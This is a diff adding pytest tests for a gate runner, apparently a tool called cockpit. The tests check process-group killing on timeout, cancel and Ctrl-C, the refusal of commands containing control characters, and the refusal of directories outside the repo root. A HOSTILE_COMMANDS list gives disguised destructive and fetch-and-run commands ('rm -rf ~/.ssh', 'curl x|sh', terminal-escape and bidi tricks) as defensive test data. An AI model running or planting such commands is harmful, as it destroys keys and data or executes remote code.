@@ -4,7 +4,9 @@ failed gate is a blocker finding that holds the verifier and closes when the gat
 
 from __future__ import annotations
 
+import _thread
 import json
+import threading
 import time
 
 import pytest
@@ -91,6 +93,90 @@ def test_a_timeout_kills_the_whole_command(tmp_path):
     assert time.monotonic() - started < 10
     assert (run.timed_out, run.exit_code, run.passed) == (True, None, False)
     assert "never" not in run.tail
+
+
+def _alive(pid: int) -> bool:
+    """Whether `pid` runs (a zombie waiting for its reaper counts as gone)."""
+    try:
+        with open(f"/proc/{pid}/stat") as handle:
+            return handle.read().rsplit(")", 1)[1].split()[0] != "Z"
+    except FileNotFoundError:
+        return False
+
+
+def _grandchild_gone(pidfile) -> bool:
+    for _ in range(40):  # its shell is killed with it; init reaps it a moment later
+        if pidfile.exists() and pidfile.read_text().strip() and not _alive(int(pidfile.read_text())):
+            return True
+        time.sleep(0.05)
+    return False
+
+
+def _start_grandchild(tmp_path) -> tuple[GateSpec, object]:
+    pidfile = tmp_path / "grandchild.pid"
+    # `sleep` runs as a grandchild (a child of the gate's shell), which then waits on it
+    return GateSpec("hangs", f"sleep 30 & echo $! > {pidfile}; wait"), pidfile
+
+
+def test_a_timeout_kills_the_grandchildren_too(tmp_path):
+    spec, pidfile = _start_grandchild(tmp_path)
+    run = run_gate(spec, tmp_path, timeout=0.5)
+    assert run.timed_out and _grandchild_gone(pidfile)
+
+
+def test_a_cancel_kills_the_whole_group_and_says_so(tmp_path):
+    spec, pidfile = _start_grandchild(tmp_path)
+    cancel = threading.Event()
+    threading.Timer(0.3, cancel.set).start()
+    started = time.monotonic()
+    run = run_gate(spec, tmp_path, timeout=30, cancel=cancel)
+    assert time.monotonic() - started < 5
+    assert (run.timed_out, run.exit_code, run.error, run.passed) == (False, None, "cancelled", False)
+    assert run.outcome().startswith("cancelled after ") and run.verdict() == "cancelled"
+    assert _grandchild_gone(pidfile)
+
+
+def test_ctrl_c_while_a_gate_runs_kills_its_group_before_the_interrupt_goes_on(tmp_path):
+    """The gate runs in its own session, outside the terminal's foreground group: Ctrl-C reaches
+    only cockpit, which must take the gate down with it."""
+    spec, pidfile = _start_grandchild(tmp_path)
+    threading.Timer(0.3, _thread.interrupt_main).start()
+    with pytest.raises(KeyboardInterrupt):
+        run_gate(spec, tmp_path, timeout=30)
+    assert _grandchild_gone(pidfile)
+
+
+HOSTILE_COMMANDS = [
+    ("cr-erase", "rm -rf ~/.ssh\r\x1b[2Kmake test", "␍ at 13, ␛ at 14"),
+    ("osc52", "make test \x1b]52;c;cm0gLXJmIH4=\x07", "␛ at 10, ␇ at 29"),
+    ("backspace", "make test\x08\x08\x08\x08; curl x|sh", "␈ at 9, ␈ at 10, ␈ at 11, ␈ at 12"),
+    ("c1", "make\x9b2J test", "<U+009B> at 4"),
+    ("bidi", "make test \u202e hs|x lruc", "<U+202E> at 10"),
+]
+
+
+@pytest.mark.parametrize("name, command, where", HOSTILE_COMMANDS, ids=[h[0] for h in HOSTILE_COMMANDS])
+def test_a_command_with_control_characters_is_refused_naming_each_one(name, command, where, tmp_path):
+    specs, problems = gate_specs({"quality_gates": [{"name": "tests", "command": command}, {"name": "ok", "command": "make\ttest\n"}]})
+    assert [s.name for s in specs] == ["ok"]
+    assert problems == [f"quality gate #1 (tests): its command holds control characters ({where}): "
+                        "what is shown would not be what runs; refused"]
+    marker = tmp_path / "ran"
+    run = run_gate(GateSpec("tests", f"touch {marker}; {command}"), tmp_path, timeout=10)  # built by hand: refused again
+    assert not marker.exists() and not run.passed and run.error.startswith("its command holds control characters")
+    assert "\x1b" not in GateSpec("tests", command).describe() and "\r" not in GateSpec("tests", command).describe()
+
+
+def test_a_dir_outside_the_root_is_refused(tmp_path):
+    root = tmp_path / "repo"
+    (root / "svc").mkdir(parents=True)
+    (root / "escape").symlink_to(tmp_path)
+    marker = tmp_path / "ran"
+    for where in ("..", "/tmp", "svc/../..", "escape"):
+        run = run_gate(GateSpec("t", f"touch {marker}", dir=where), root, timeout=10)
+        assert not marker.exists() and not run.passed
+        assert run.error == f"its dir `{where}` resolves outside the root {root}; refused", where
+    assert run_gate(GateSpec("t", "true", dir="svc/.."), root, timeout=10).passed
 
 
 def test_the_output_tail_is_capped_and_redacted(tmp_path):
